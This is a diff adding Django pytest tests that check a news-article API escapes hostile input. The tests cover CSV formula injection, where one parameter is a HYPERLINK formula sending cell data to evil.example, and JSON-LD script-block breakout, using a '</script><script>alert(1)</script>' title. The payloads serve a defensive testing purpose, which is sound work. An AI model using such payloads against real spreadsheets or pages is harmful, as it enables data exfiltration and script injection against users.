@@ -9,7 +9,7 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
-from articles.models import Article, PersonMention
+from articles.models import Article, Figure, Outlet, PersonMention
 
 pytestmark = pytest.mark.django_db
 
@@ -265,3 +265,36 @@ def test_jsonld_loads_only_what_its_nodes_show(api, volume):
         on_mentions = [q["sql"] for q in queries.captured_queries if f'FROM "{mentions}"' in q["sql"]]
         assert len(on_mentions) == 1, on_mentions
         assert "'author'" not in on_mentions[0]
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(api, editor_client, sample, name):
+    """OWASP's CSV injection: an editor's text never becomes a formula in a
+    downloader's spreadsheet; the JSON answer keeps the value as written."""
+    created = editor_client.post("/api/v1/outlets/", {"name": name, "slug": "hostile"}, format="json")
+    assert created.status_code == 201, created.json()
+    Outlet.objects.filter(slug="hostile").update(name=name)  # the API trims a leading tab; an import may not
+    cells = {row["slug"]: row["name"] for row in rows(api, "outlets")}
+    assert cells["hostile"] == "'" + name
+    assert api.get("/api/v1/outlets/hostile/").json()["name"] == name
+
+
+def test_csv_leaves_negative_numbers_as_numbers(api, sample):
+    figure = sample.figures["dead"]
+    Figure.objects.filter(pk=figure.pk).update(value=-3)
+    cells = {row["id"]: row["value"] for row in rows(api, "figures")}
+    assert cells[str(figure.pk)] == "-3"
+
+
+def test_jsonld_cannot_close_the_script_block_it_is_embedded_in(api, sample):
+    article = sample.articles["granma"]
+    Article.objects.filter(pk=article.pk).update(title="</script><script>alert(1)</script> & more")
+    for path in (f"/api/v1/articles/{article.pk}/", "/api/v1/articles/"):
+        response = api.get(path, {"format": "jsonld"})
+        text = (b"".join(response.streaming_content) if response.streaming else response.content).decode()
+        assert "<" not in text and ">" not in text
+        doc = json.loads(text)
+        nodes = doc.get("@graph", [doc])
+        assert "</script><script>alert(1)</script> & more" in {node["headline"] for node in nodes}
